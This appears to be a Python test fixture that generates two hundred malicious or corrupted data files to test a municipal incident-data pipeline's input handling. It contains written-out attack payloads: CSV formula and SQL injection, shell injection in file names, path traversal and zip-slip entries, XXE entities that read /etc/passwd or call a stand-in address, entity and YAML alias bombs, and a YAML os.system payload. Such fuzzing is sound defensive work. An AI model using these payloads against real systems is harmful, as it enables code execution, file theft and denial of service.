"""Two hundred files that somebody could deliver by mistake or on purpose, from one seed.

`caller` is an address on this computer that should never be called.
"""

import io
import json
import random
import zipfile
from collections.abc import Iterator

from tests.unit.pipelines.table_files import incidents, parquet, xlsx
from tests.unit.pipelines.workspace_maker import areas_text, gemeente_text, table_text

SEED = 20261121
NUMBER = 200
Hostile = tuple[str, bytes]  # name of the file in the workspace, content

LAUGHS = "".join(
    f'<!ENTITY l{n} "{"&l" + str(n - 1) + ";" if n else "ha"}{("&l" + str(n - 1) + ";") * 9}">'
    for n in range(10)
)
SHEET = "xl/worksheets/sheet1.xml"


def hostile_files(caller: str) -> list[Hostile]:
    """The named attacks first, then seeded damage until there are two hundred."""
    found = [*_tables(caller), *_workbooks(caller), *_maps(caller), *_settings(caller)]
    chance = random.Random(SEED)
    good = _good_files()
    while len(found) < NUMBER:
        name, content = good[len(found) % len(good)]
        found.append((name, _damaged(content, chance)))
    return found[:NUMBER]


def _good_files() -> list[Hostile]:
    header, rows = incidents(30)
    return [
        ("incidents.csv", table_text("incidents").encode()),
        ("incidents.xlsx", xlsx(header, rows)),
        ("incidents.parquet", parquet(header, rows)),
        ("signals.csv", table_text("signals").encode()),
        ("areas.geojson", areas_text().encode()),
        ("gemeente.yaml", gemeente_text().encode()),
        ("population.csv", table_text("population").encode()),
    ]


def _damaged(content: bytes, chance: random.Random) -> bytes:
    """A few random changes of bytes: flipped, cut, doubled, filled with something else."""
    data = bytearray(content)
    for _ in range(chance.randint(1, 12)):
        place = chance.randrange(len(data) + 1)
        kind = chance.randrange(6)
        if kind == 0 and data:
            data[place % len(data)] = chance.randrange(256)
        elif kind == 1:
            del data[place : place + chance.randrange(200)]
        elif kind == 2:
            data[place:place] = data[place : place + chance.randrange(500)]
        elif kind == 3:
            data[place:place] = chance.choice(
                [b"\x00" * 64, b'"', b"\xff\xfe", b"=cmd|'/c calc'!A0", b"\r\r\n", b"{{", b"';--"]
            )
        elif kind == 4:
            data[place:place] = bytes(chance.randrange(256) for _ in range(chance.randrange(64)))
        else:
            data[place:place] = str(chance.choice([10**400, -1, "1e308", "NaN", "∞"])).encode()
    return bytes(data)


def _tables(caller: str) -> Iterator[Hostile]:
    header = "incident_id,occurred_at,category,wijkcode,group_dimension,severity,verified,source"
    row = "m1,2025-06-02,overig,WK000101,nee,licht,nee,{}\n"
    for value in (
        "=cmd|'/c calc'!A0", "@SUM(1+1)*cmd", f'=HYPERLINK("{caller}")', f"{caller}/a.csv",
        "'; DROP TABLE incidents; --", "$(touch owned)", "../../../../owned", "\x1b]0;x\x07",
        "<script>fetch('x')</script>", "{{ 7*7 }}", "%s%s%n", "\u202egpj.exe",
    ):  # fmt: skip
        yield "incidents.csv", f"{header}\n{row.format(value)}".encode()
    yield "incidents.csv", (",".join(f"c{n}" for n in range(20_000)) + "\n").encode()
    yield "incidents.csv", (header + "\n" + '"' * 200_000).encode()
    yield "incidents.csv", (header + "\n" + "a" * 3_000_000).encode()
    yield "incidents.csv", b"\x00" * 100_000
    yield "incidents.csv", header.encode("utf-16")
    yield "incidents.csv", ("read_csv('/etc/passwd')," + header + "\n").encode()
    yield "incidents;touch owned;.csv", header.encode()
    yield "incidents' OR 1=1 --.csv", header.encode()
    yield "incidents*.csv", header.encode()
    yield "incidents[abc]?.csv", header.encode()
    yield "incidents{{ x }}.csv", header.encode()
    yield "incidents\n.csv", header.encode()
    yield "incidents.parquet", b"PAR1" + b"\xff" * 200 + b"PAR1"
    yield "incidents.parquet", b"PAR1" + b"\x00" * 8 + b"\xff\xff\xff\x7fPAR1"


def _workbook(**parts: str | bytes) -> bytes:
    """A good workbook in which some parts are something else; `__` stands for `/`."""
    header, rows = incidents(2)
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx(header, rows))) as good,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bad,
    ):
        names = {name.replace("__", "/"): content for name, content in parts.items()}
        for entry in good.namelist():
            bad.writestr(entry, names.pop(entry, good.read(entry)))
        for entry, content in names.items():
            bad.writestr(entry, content)
    return out.getvalue()


def _workbooks(caller: str) -> Iterator[Hostile]:
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rels = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'

    def sheet(cells: str, before: str = "") -> str:
        head = f'<?xml version="1.0"?>{before}'
        return f"{head}<worksheet {main}><sheetData>{cells}</sheetData></worksheet>"

    text = '<row r="1"><c r="A1" t="inlineStr"><is><t>{}</t></is></c></row>'
    entities = {
        "laughs": (f"<!DOCTYPE x [{LAUGHS}]>", "&l9;"),
        "file": ('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;"),
        "call": (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{caller}/x">]>', "&e;"),
        "dtd": (f'<!DOCTYPE x SYSTEM "{caller}/x.dtd">', "a"),
        "parameter": (f'<!DOCTYPE x [<!ENTITY % e SYSTEM "{caller}/x.dtd"> %e;]>', "a"),
    }
    for before, value in entities.values():
        yield "incidents.xlsx", _workbook(**{SHEET: sheet(text.format(value), before)})
        yield "incidents.xlsx", _workbook(**{"xl/workbook.xml": before + "<workbook/>"})
        yield "incidents.xlsx", _workbook(**{"[Content_Types].xml": before + "<Types/>"})
    far = '<row r="999999999"><c r="A999999999"><v>1</v></c></row>'
    wide = '<row r="1"><c r="ZZZZZZ1"><v>1</v></c></row>'
    deep = "<a>" * 50_000
    for cells in (text.format("a") + far, wide, deep, "<row r='-1'/>", "<row r='x'/>"):
        yield "incidents.xlsx", _workbook(**{SHEET: sheet(cells)})
    yield "incidents.xlsx", _workbook(**{SHEET: b"\x00" * 510_000_000})
    yield "incidents.xlsx", _workbook(**{"../../owned": b"x", "/owned": b"x"})
    outside = f'<Relationship Id="rId1" Type="x" Target="{caller}" TargetMode="External"/>'
    for target in (outside, outside.replace(caller, "../../../etc/passwd")):
        relations = f"<Relationships {rels}>{target}</Relationships>"
        yield "incidents.xlsx", _workbook(**{"xl/_rels/workbook.xml.rels": relations})
    yield "incidents.xlsx", b"PK\x03\x04" + b"\x00" * 500
    yield "incidents.csv", _workbook()


def _maps(caller: str) -> Iterator[Hostile]:
    whole = json.loads(areas_text())
    for crs in (
        {"type": "link", "properties": {"href": f"{caller}/x", "type": "ogcwkt"}},
        {"properties": {"url": f"{caller}/x"}, "type": "url"},
        {"type": "name", "properties": {"name": f"{caller}/x"}},
        {"type": "LINK", "properties": {"href": "file:///etc/passwd"}},
    ):
        yield "areas.geojson", json.dumps({**whole, "crs": crs}).encode()
        features = [{**one, "crs": crs} for one in whole["features"]]
        yield "areas.geojson", json.dumps({**whole, "features": features}).encode()
        hidden = json.dumps({**whole, "crs": crs}).replace('"crs"', '"\\u0063rs"')
        yield "areas.geojson", hidden.encode()
    twice = f'"type":"name","type":"link","properties":{{"href":"{caller}/x"}}'
    yield "areas.geojson", areas_text().replace("{", f'{{"crs":{{{twice}}},', 1).encode()
    yield "areas.geojson", ('{"a":' * 50_000 + "1" + "}" * 50_000).encode()
    vrt = f"<OGRVRTDataSource><OGRVRTLayer name='a'><SrcDataSource>/vsicurl/{caller}"
    yield "areas.geojson", (vrt + "</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>").encode()
    yield "areas.gpkg", vrt.encode()
    yield "areas.gpkg", b"SQLite format 3\x00" + b"\xff" * 4096
    yield "areas.shp", b"\x00\x00\x27\x0a" + b"\xff" * 500


def _settings(caller: str) -> Iterator[Hostile]:
    good = gemeente_text()
    yield "gemeente.yaml", b'!!python/object/apply:os.system ["touch owned"]'
    yield "gemeente.yaml", b"a: &a [x,x]\n" + b"".join(
        f"b{n}: &b{n} [{'*b' + str(n - 1) if n else '*a'},{'*b' + str(n - 1) if n else '*a'}]\n"
        .encode() for n in range(30)
    )  # fmt: skip
    for file in ("../../etc/passwd", "/etc/passwd", f"{caller}/x.csv", "*"):
        mapping = f'\nsources:\n  - file: "{file}"\n    as: incidents\n'
        yield "gemeente.yaml", (good + mapping).encode()
    yield "gemeente.yaml", b"\x00" * 1000
    yield "gemeente.yaml", ("[" * 20_000).encode()
